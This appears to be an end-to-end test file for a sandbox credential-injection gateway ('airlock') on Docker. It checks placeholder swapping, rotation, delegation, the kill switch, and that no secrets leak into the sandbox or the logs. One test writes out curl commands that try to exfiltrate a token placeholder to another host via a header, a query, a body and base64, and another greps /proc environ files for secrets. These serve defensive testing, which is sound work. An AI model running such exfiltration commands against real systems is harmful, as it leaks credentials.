/**
 * Issue 14 on real Docker: credentials the sandbox never holds. `airlock serve` as it runs, the
 * gateway container reading one value from `gateway.credentialsDir` (a file, rotated live) and one
 * from `gateway.credentialEnv`, and upstreams nobody here wrote, listening on the egress bridge:
 *
 * - nginx `auth_basic` in front of git-http-backend (fcgiwrap): a `git push` from the sandbox works
 *   with the injected credential; the sandbox has no credential helper and no token;
 * - nginx checking a bearer token (`$http_authorization`) in front of json-server; the sandbox has
 *   only a placeholder in `API_TOKEN`;
 * - nginx without auth in front of the same json-server, as "another allowed host", with an access
 *   log that shows whether anything reached it.
 *
 * The secrets appear nowhere in the sandbox (environment, files, /proc/<pid>/environ, command
 * output), the audit file, the gateway's or the control plane's logs. Searching the sandbox never
 * puts a secret into it: the patterns are regular expressions that match the value without being it.
 */
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEvent } from '../../src/audit/event.js';
import { startServer, type RunningServer } from '../../src/cli/serve.js';
import { ApiClient } from '../../src/cli/client.js';
import { credentialsLs } from '../../src/cli/credentials.js';
import { parseConfig } from '../../src/config/load.js';
import { valueVersion } from '../../src/policy/credentials.js';
import { CANONICAL_MODEL } from '../../src/policy/model.js';
import { TestApi, curlResult } from '../helpers/api-client.js';
import { docker, networkGateway, removeAirlockObjects, requireDockerAndImages } from '../helpers/docker.js';
import { startJsonServer, type JsonServer } from '../helpers/upstreams.js';

const run = promisify(execFile);
const EGRESS_SUBNET = '10.214.0.0/24';
const TOKEN = 'e2e-token-0123456789abcdef';
const LIMITED = 'limited-token-0123456789abcdef';
const PORTS = { git: 18081, api: 18082, other: 18083 };
const GIT = `http://git.test:${PORTS.git}/git/repo.git`;
const API = `http://api.test:${PORTS.api}`;
const OTHER = `http://other.test:${PORTS.other}`;
/** The gateway's uid when `airlock serve` runs as root (docs/credentials.md "On Docker"). */
const GATEWAY_UID = 10002;

// Generated-looking values of letters and digits only (the search patterns below rely on it).
const API_TOKEN_1 = 'apiA1b2C3d4E5f6G7h8I9j0K1l2M3n4';
const API_TOKEN_2 = 'apiZ9y8X7w6V5u4T3s2R1q0P9o8N7m6';
const GIT_USER = 'pusher';
const GIT_PASS = 'gitQ1w2E3r4T5y6U7i8O9p0A1s2D3f4';
const ENV_NAME = 'AIRLOCK_E2E_GIT_BASIC';
const SECRETS = [API_TOKEN_1, API_TOKEN_2, GIT_PASS];

let dir: string;
let policyDir: string;
let credsDir: string;
let server: RunningServer;
let api: TestApi;
let limited: TestApi;
let json: JsonServer;
let nginx: ChildProcess;
let fcgi: ChildProcess;
let nginxDir: string;
let repoDir: string;
let controlPlaneLog = '';
/** Everything the sandboxes printed, checked for secrets at the end. */
let sandboxOutput = '';

function credentialsYaml(withApi = true): string {
  return [
    'version: 1',
    'credentials:',
    ...(withApi
      ? [
          '  - name: api',
          '    roles: [dev]',
          `    bindings: [{ host: "api.test:${PORTS.api}", path: /posts/*, methods: [GET] }]`,
          '    apply: { type: bearer }',
          '    source: { file: /run/airlock/credentials/api-token }',
          '    placeholder: { env: API_TOKEN }',
        ]
      : []),
    '  - name: git-push',
    '    roles: [dev]',
    '    bindings:',
    `      - { host: "git.test:${PORTS.git}", path: /git/repo.git/info/refs, methods: [GET] }`,
    `      - { host: "git.test:${PORTS.git}", path: /git/repo.git/git-upload-pack, methods: [POST] }`,
    `      - { host: "git.test:${PORTS.git}", path: /git/repo.git/git-receive-pack, methods: [POST] }`,
    '    apply: { type: basic }',
    `    source: { env: ${ENV_NAME} }`,
    '',
  ].join('\n');
}

const POLICY_CSV = [
  `p, dev, git.test:${PORTS.git}, /git/repo.git/info/refs, GET, allow`,
  `p, dev, git.test:${PORTS.git}, /git/repo.git/git-upload-pack, POST, allow`,
  `p, dev, git.test:${PORTS.git}, /git/repo.git/git-receive-pack, POST, allow`,
  `p, dev, api.test:${PORTS.api}, /posts/*, GET, allow`,
  `p, dev, api.test:${PORTS.api}, /comments, GET, allow`,
  `p, dev, other.test:${PORTS.other}, /*, *, allow`,
  '# the test driver manages every session (no egress rules of its own: no creator limit)',
  'p, e2e, airlock.api, /sessions/*, *, allow',
  '# delegation: "limited" may start dev sessions; its own egress reaches other.test only',
  'p, limited, airlock.api, /sessions/dev, *, allow',
  `p, limited, other.test:${PORTS.other}, /*, GET, allow`,
  '',
].join('\n');

/** An ERE matching `s` (letters, digits, `+/=:` ) whose own text is not `s`: nothing is planted. */
function pattern(s: string): string {
  const esc = (c: string): string => (/[A-Za-z0-9:]/.test(c) ? c : `[${c}]`);
  return `[${s[0]}]` + [...s.slice(1)].map(esc).join('');
}

/** Every form of every secret the sandbox must not hold (plain, and basic auth's base64). */
const FORBIDDEN = [...SECRETS, Buffer.from(`${GIT_USER}:${GIT_PASS}`).toString('base64')];

async function sh(
  id: string,
  script: string,
  timeoutSeconds = 60,
): Promise<{ exitCode: number; stdout: string; stderr: string }> {
  const out = await api.sh(id, script, timeoutSeconds);
  sandboxOutput += out.stdout + out.stderr;
  return out;
}

async function startUpstreams(host: string): Promise<void> {
  nginxDir = mkdtempSync(path.join(tmpdir(), 'airlock-e2e-creds-nginx-'));
  repoDir = path.join(nginxDir, 'git', 'repo.git');
  const work = path.join(nginxDir, 'work');
  mkdirSync(work, { recursive: true });
  const env = {
    ...process.env,
    GIT_AUTHOR_NAME: 't',
    GIT_AUTHOR_EMAIL: 't@t',
    GIT_COMMITTER_NAME: 't',
    GIT_COMMITTER_EMAIL: 't@t',
  };
  await run('git', ['init', '-q', '--bare', '-b', 'main', repoDir]);
  await run('git', ['config', 'http.receivepack', 'true'], { cwd: repoDir });
  await run('git', ['init', '-q', '-b', 'main', work]);
  writeFileSync(path.join(work, 'README'), 'release notes\n');
  await run('git', ['add', 'README'], { cwd: work, env });
  await run('git', ['commit', '-q', '-m', 'initial'], { cwd: work, env });
  await run('git', ['push', '-q', repoDir, 'main'], { cwd: work, env });
  writeFileSync(path.join(nginxDir, 'htpasswd'), `${GIT_USER}:{PLAIN}${GIT_PASS}\n`);
  const sock = path.join(nginxDir, 'fcgiwrap.sock');
  fcgi = spawn('fcgiwrap', ['-s', `unix:${sock}`], { stdio: 'ignore' });
  writeFileSync(
    path.join(nginxDir, 'nginx.conf'),
    `daemon off;
user root;
worker_processes 1;
pid ${nginxDir}/nginx.pid;
error_log ${nginxDir}/error.log warn;
events { worker_connections 128; }
http {
  access_log off;
  client_body_temp_path ${nginxDir}/body; proxy_temp_path ${nginxDir}/proxy; fastcgi_temp_path ${nginxDir}/fastcgi;
  uwsgi_temp_path ${nginxDir}/uwsgi; scgi_temp_path ${nginxDir}/scgi;
  map $http_authorization $token_id { "Bearer ${API_TOKEN_1}" 1; "Bearer ${API_TOKEN_2}" 2; default 0; }
  server {
    listen ${host}:${PORTS.git};
    auth_basic "git";
    auth_basic_user_file ${nginxDir}/htpasswd;
    location ~ ^/git(/.*)$ {
      client_max_body_size 0;
      fastcgi_pass unix:${sock};
      include /etc/nginx/fastcgi_params;
      fastcgi_param SCRIPT_FILENAME /usr/lib/git-core/git-http-backend;
      fastcgi_param GIT_PROJECT_ROOT ${nginxDir}/git;
      fastcgi_param GIT_HTTP_EXPORT_ALL "";
      fastcgi_param PATH_INFO $1;
      fastcgi_param REMOTE_USER $remote_user;
    }
  }
  server {
    listen ${host}:${PORTS.api};
    location / {
      if ($token_id = 0) { return 401; }
      add_header x-token-id $token_id always;
      proxy_pass ${json.url};
    }
  }
  server {
    listen ${host}:${PORTS.other};
    access_log ${nginxDir}/other.log;
    location / { proxy_pass ${json.url}; }
  }
}
`,
  );
  nginx = spawn('nginx', ['-c', path.join(nginxDir, 'nginx.conf'), '-p', nginxDir], { stdio: 'ignore' });
  const deadline = Date.now() + 15_000;
  for (;;) {
    try {
      await run('curl', ['-sf', '-o', '/dev/null', `http://${host}:${PORTS.other}/posts/1`]);
      return;
    } catch (err) {
      if (Date.now() > deadline) throw new Error(`nginx did not start: ${String(err)}`, { cause: err });
      await new Promise((r) => setTimeout(r, 100));
    }
  }
}

function stop(p: ChildProcess | undefined): Promise<void> {
  return new Promise((resolve) => {
    if (!p || p.exitCode !== null || p.signalCode !== null) return resolve();
    p.once('exit', () => resolve());
    p.kill('SIGTERM');
  });
}

/** Writes a credential file the way operators should: new file, 0600, owned by the gateway, renamed over. */
function writeCredential(name: string, value: string): void {
  const tmp = path.join(credsDir, `.${name}.tmp`);
  writeFileSync(tmp, `${value}\n`, { mode: 0o600 });
  chownSync(tmp, GATEWAY_UID, GATEWAY_UID);
  renameSync(tmp, path.join(credsDir, name));
}

beforeAll(async () => {
  await requireDockerAndImages(['airlock-gateway:dev', 'airlock-sandbox:dev']);
  await removeAirlockObjects();
  dir = mkdtempSync(path.join(tmpdir(), 'airlock-e2e-creds-'));
  policyDir = path.join(dir, 'policy');
  credsDir = path.join(dir, 'credentials');
  mkdirSync(policyDir);
  writeFileSync(path.join(policyDir, 'model.conf'), CANONICAL_MODEL);
  writeFileSync(path.join(policyDir, 'policy.csv'), POLICY_CSV);
  writeFileSync(path.join(policyDir, 'credentials.yaml'), credentialsYaml());
  chmodSync(policyDir, 0o755);
  mkdirSync(credsDir, { mode: 0o700 });
  chownSync(credsDir, GATEWAY_UID, GATEWAY_UID);
  writeCredential('api-token', API_TOKEN_1);
  process.env[ENV_NAME] = `${GIT_USER}:${GIT_PASS}`;
  const cfg = parseConfig(
    {
      api: {
        listen: '127.0.0.1:0',
        tokens: [
          { name: 'e2e', token: TOKEN },
          { name: 'limited', token: LIMITED },
        ],
      },
      gateway: {
        hostAliases: { 'git.test': 'host-gateway', 'api.test': 'host-gateway', 'other.test': 'host-gateway' },
        allowPrivateCidrs: [EGRESS_SUBNET],
        credentialsDir: credsDir,
        credentialEnv: [ENV_NAME],
      },
      policy: { dir: policyDir },
      runtime: { docker: { egressSubnet: EGRESS_SUBNET } },
      stateDir: path.join(dir, 'state'),
    },
    dir,
  );
  const logger = pino({ level: 'debug' }, { write: (s: string) => void (controlPlaneLog += s) });
  server = await startServer(cfg, logger);
  expect(server.policy.current(), server.policy.lastError() ?? '').not.toBeNull();
  api = new TestApi(server.url, TOKEN);
  limited = new TestApi(server.url, LIMITED);
  json = await startJsonServer('127.0.0.1');
  await startUpstreams(await networkGateway('airlock-egress'));
}, 120_000);

afterAll(async () => {
  await server?.close();
  await removeAirlockObjects();
  await Promise.all([stop(nginx), stop(fcgi)]);
  await json?.stop();
  delete process.env[ENV_NAME];
  if (nginxDir) rmSync(nginxDir, { recursive: true, force: true });
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const curl = (args: string): string => `curl -s -w '\\n%{http_code}' ${args}`;

describe('credentials on Docker (issue 14)', () => {
  let dev: string;
  let placeholder: string;

  it('the sandbox holds a placeholder, no token and no credential helper', async () => {
    dev = (await api.create({ role: 'dev' })).id;
    const out = await sh(dev, 'echo "$API_TOKEN"; git config --get credential.helper; echo "helper=$?"');
    const [ph, ...rest] = out.stdout.trim().split('\n');
    placeholder = ph!;
    expect(placeholder).toMatch(/^airlock-ph-api-[0-9a-f]{32}$/);
    expect(rest.join('\n')).toBe('helper=1'); // no helper configured anywhere
    // The git credential has no placeholder: nothing names it in the sandbox at all.
    const env = await sh(dev, 'env');
    expect(env.stdout).not.toContain(ENV_NAME);
  });

  it('git push through nginx auth_basic works with the injected credential', async () => {
    const before = (await run('git', ['rev-parse', 'refs/heads/main'], { cwd: repoDir })).stdout.trim();
    const out = await sh(
      dev,
      `cd /tmp && git clone -q ${GIT} && cd repo && echo 'v2' >> README && ` +
        `git -c user.name=agent -c user.email=agent@example.test commit -qam 'release v2' && ` +
        `git push -q origin main && git rev-parse HEAD`,
      120,
    );
    expect(out.exitCode, out.stderr).toBe(0);
    const pushed = out.stdout.trim().split('\n').at(-1)!;
    const after = (await run('git', ['rev-parse', 'refs/heads/main'], { cwd: repoDir })).stdout.trim();
    expect(after).not.toBe(before);
    expect(after).toBe(pushed);
    const events = await api.auditUntil(dev, (es) =>
      es.some((e) => e.path === '/git/repo.git/git-receive-pack'),
    );
    const push = events.find((e) => e.path === '/git/repo.git/git-receive-pack')!;
    expect(push).toMatchObject({ decision: 'allow', status: 200, method: 'POST' });
    expect(push.credential).toEqual({ name: 'git-push', version: valueVersion(`${GIT_USER}:${GIT_PASS}`) });
    // Without the gateway's credential nginx refuses (the sandbox cannot authenticate by itself).
    const direct = await run('curl', [
      '-s',
      '-o',
      '/dev/null',
      '-w',
      '%{http_code}',
      `http://${await networkGateway('airlock-egress')}:${PORTS.git}/git/repo.git/info/refs`,
    ]);
    expect(direct.stdout).toBe('401');
  });

  it('nginx bearer check: the placeholder is swapped where bound; no header gets the token too', async () => {
    const withPh = curlResult(
      (await sh(dev, curl(`-H "Authorization: Bearer $API_TOKEN" ${API}/posts/1`))).stdout,
    );
    expect(withPh.status).toBe(200);
    expect(JSON.parse(withPh.body)).toMatchObject({ id: 1 });
    const bare = curlResult((await sh(dev, curl(`${API}/posts/1`))).stdout);
    expect(bare.status).toBe(200);
    const events = await api.auditUntil(
      dev,
      (es) => es.filter((e) => e.credential?.name === 'api').length >= 2,
    );
    expect(events.filter((e) => e.credential?.name === 'api').at(-1)).toMatchObject({
      decision: 'allow',
      credential: { name: 'api', version: valueVersion(API_TOKEN_1) },
    });
  });

  it('exfiltration attempts with the placeholder are refused, audited, and reach nothing', async () => {
    const otherLog = path.join(nginxDir, 'other.log');
    const reachedOther = (): number => readFileSync(otherLog, 'utf8').split('\n').filter(Boolean).length;
    const before = reachedOther();
    const attempts = [
      ['to another allowed host', curl(`-H "Authorization: Bearer $API_TOKEN" ${OTHER}/posts/1`)],
      ['in a query', curl(`"${OTHER}/posts?q=$API_TOKEN"`)],
      [
        'in a POST body to an allowed endpoint',
        curl(
          `-X POST -H 'content-type: application/json' -d "{\\"title\\":\\"$API_TOKEN\\"}" ${OTHER}/posts`,
        ),
      ],
      [
        'base64 in a POST body',
        curl(`-X POST --data-binary "$(printf '%s' "$API_TOKEN" | base64)" ${OTHER}/posts`),
      ],
      [
        'in a header to an unbound path of the bound host',
        curl(`-H "Authorization: Bearer $API_TOKEN" ${API}/comments`),
      ],
    ] as const;
    for (const [what, cmd] of attempts) {
      const r = curlResult((await sh(dev, cmd)).stdout);
      expect(r.status, what).toBe(403);
      expect(JSON.parse(r.body), what).toMatchObject({ error: 'credential_not_bound', sessionId: dev });
    }
    const events = await api.auditUntil(
      dev,
      (es) => es.filter((e) => e.reason === 'exfiltration_attempt').length >= attempts.length,
    );
    const refused = events.filter((e) => e.reason === 'exfiltration_attempt');
    expect(refused).toHaveLength(attempts.length);
    for (const e of refused) {
      expect(e).toMatchObject({ decision: 'deny', status: 403, credential: { name: 'api' } });
      expect(e.secretFoundIn).toMatch(/:placeholder$/);
    }
    expect(refused.map((e) => e.secretFoundIn).sort()).toEqual(
      [
        'body:placeholder',
        'body:placeholder',
        'header:authorization:placeholder',
        'header:authorization:placeholder',
        'url:placeholder',
      ].sort(),
    );
    expect(reachedOther()).toBe(before); // nothing reached the other host
  });

  it('delegation: a session never gets a credential its creator’s rules would not allow', async () => {
    const s = (await limited.create({ role: 'dev' })).id;
    const r = curlResult((await sh(s, curl(`-H "Authorization: Bearer $API_TOKEN" ${API}/posts/1`))).stdout);
    expect(r.status).toBe(403);
    expect(JSON.parse(r.body)).toMatchObject({ error: 'egress_denied', sessionId: s });
    const push = curlResult((await sh(s, curl(`${GIT}/info/refs?service=git-receive-pack`))).stdout);
    expect(push.status).toBe(403);
    const events = await api.auditUntil(s, (es) => es.length >= 2);
    for (const e of events) expect(e.credential).toBeUndefined();
    await api.remove(s);
  });

  it('last-used time per credential in GET /v1/credentials and `airlock credentials ls` (never values)', async () => {
    const res = await api.raw('GET', '/v1/credentials');
    const text = await res.text();
    for (const s of FORBIDDEN) expect(text).not.toContain(s);
    const body = JSON.parse(text) as {
      credentials: { name: string; lastUsedAt: string | null; valueVersion: string | null }[];
    };
    const byName = new Map(body.credentials.map((c) => [c.name, c]));
    const events = await api.audit(dev);
    for (const name of ['api', 'git-push']) {
      const last = events.filter((e) => e.credential?.name === name && e.decision === 'allow').at(-1)!;
      expect(byName.get(name)!.lastUsedAt).toBe(last.time);
    }
    expect(byName.get('api')!.valueVersion).toBe(valueVersion(API_TOKEN_1));
    let out = '';
    await credentialsLs(new ApiClient(server.url, TOKEN), {}, { out: (t) => (out += t) });
    expect(out).toMatch(/^api\s.*env:API_TOKEN\s+\d{4}-\d\d-\d\dT/m);
    for (const s of FORBIDDEN) expect(out).not.toContain(s);
  });

  it('rotation: a renamed-over file is used for the next request (measured); removing a binding stops injection at once', async () => {
    const t0 = Date.now();
    writeCredential('api-token', API_TOKEN_2);
    // The sandbox calls until nginx says token 2 was used (bounded); the audit dates the first use.
    const out = await sh(
      dev,
      `for i in $(seq 1 200); do curl -s -o /dev/null -D - ${API}/posts/1 | grep -qi '^x-token-id: 2' && { echo ok; break; }; sleep 0.05; done`,
    );
    expect(out.stdout.trim()).toBe('ok');
    const v2 = valueVersion(API_TOKEN_2);
    const events = await api.auditUntil(dev, (es) => es.some((e) => e.credential?.version === v2));
    const first = events.find((e) => e.credential?.version === v2)!;
    console.log(
      `credential rotation on Docker: file renamed -> first call injected with the new value after ${Date.parse(first.time) - t0} ms (upper bound: the sandbox polls every 50 ms)`,
    );

    const v0 = server.policy.current()!.version;
    writeFileSync(path.join(policyDir, 'credentials.yaml'), credentialsYaml(false));
    const deadline = Date.now() + 30_000;
    while (server.policy.current()!.version === v0) {
      if (Date.now() > deadline) throw new Error('the control plane did not load the new policy');
      await new Promise((r) => setTimeout(r, 100));
    }
    const v1 = server.policy.current()!.version;
    // Calls until the gateway decides with the new policy: from its first such call on, no injection.
    const after = await sh(
      dev,
      `for i in $(seq 1 300); do c=$(curl -s -o /dev/null -w '%{http_code}' ${API}/posts/1); [ "$c" = 401 ] && { echo ok; break; }; sleep 0.1; done`,
    );
    expect(after.stdout.trim()).toBe('ok');
    const es = await api.auditUntil(dev, (x) => x.some((e) => e.policyVersion === v1 && e.status === 401));
    const underNew = es.filter((e) => e.policyVersion === v1 && e.path === '/posts/1');
    expect(underNew.length).toBeGreaterThan(0);
    for (const e of underNew) expect(e.credential).toBeUndefined();
    // Git keeps its credential (still bound).
    const refs = curlResult(
      (await sh(dev, curl(`-o /dev/null "${GIT}/info/refs?service=git-upload-pack"`))).stdout,
    );
    expect(refs.status).toBe(200);
  });

  it('after the kill switch a placeholder is worthless', async () => {
    const killed = placeholder;
    await api.remove(dev);
    const v0 = server.policy.current()!.version;
    writeFileSync(path.join(policyDir, 'credentials.yaml'), credentialsYaml(true));
    const deadline = Date.now() + 30_000;
    while (server.policy.current()!.version === v0) {
      if (Date.now() > deadline) throw new Error('the control plane did not load the new policy');
      await new Promise((r) => setTimeout(r, 100));
    }
    const other = (await api.create({ role: 'dev' })).id;
    const ph2 = (await sh(other, 'echo "$API_TOKEN"')).stdout.trim();
    expect(ph2).toMatch(/^airlock-ph-api-[0-9a-f]{32}$/);
    expect(ph2).not.toBe(killed);
    // The dead session's placeholder is nobody's token: nginx refuses it where no binding swaps it…
    const r = curlResult(
      (await sh(other, curl(`-H "Authorization: Bearer ${killed}" ${API}/comments`))).stdout,
    );
    expect(r.status).toBe(401);
    // … and so does the upstream when asked directly.
    const direct = await run('curl', [
      '-s',
      '-o',
      '/dev/null',
      '-w',
      '%{http_code}',
      '-H',
      `Authorization: Bearer ${killed}`,
      `http://${await networkGateway('airlock-egress')}:${PORTS.api}/posts/1`,
    ]);
    expect(direct.stdout).toBe('401');
    await api.remove(other);
  });

  it('no secret anywhere: sandbox environment, files, /proc/*/environ, command output', async () => {
    const s = (await api.create({ role: 'dev' })).id;
    // Use both credentials from this sandbox first, so anything the gateway sent back could be there.
    await sh(
      s,
      `cd /tmp && git clone -q ${GIT} r && ${curl(`${API}/posts/1`)} > /tmp/out.txt; cat /tmp/out.txt`,
      120,
    );
    const re = FORBIDDEN.map(pattern).join('|');
    const script =
      `env | grep -cE '${re}'; ` +
      `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -cE '${re}'; ` +
      `grep -rlsE '${re}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | head; echo done`;
    const out = await sh(s, script, 300);
    expect(out.stdout.trim().split('\n')).toEqual(['0', '0', 'done']);
    await api.remove(s);
    for (const secret of FORBIDDEN) expect(sandboxOutput).not.toContain(secret);
  });

  it('no secret in the audit file, the gateway container log or the control plane log', async () => {
    const audit = readFileSync(path.join(dir, 'state', 'audit.jsonl'), 'utf8');
    expect(audit.split('\n').filter(Boolean).length).toBeGreaterThan(10);
    const events = audit
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as AuditEvent);
    expect(events.some((e) => e.credential?.name === 'api')).toBe(true);
    const gatewayLog = (
      await docker.getContainer('airlock-gateway').logs({ stdout: true, stderr: true })
    ).toString('latin1');
    expect(gatewayLog.length).toBeGreaterThan(0);
    expect(controlPlaneLog.length).toBeGreaterThan(0);
    for (const [what, text] of [
      ['audit', audit],
      ['gateway log', gatewayLog],
      ['control plane log', controlPlaneLog],
    ] as const) {
      for (const secret of FORBIDDEN) expect(text.includes(secret), `${what} holds a secret`).toBe(false);
    }
  });
});
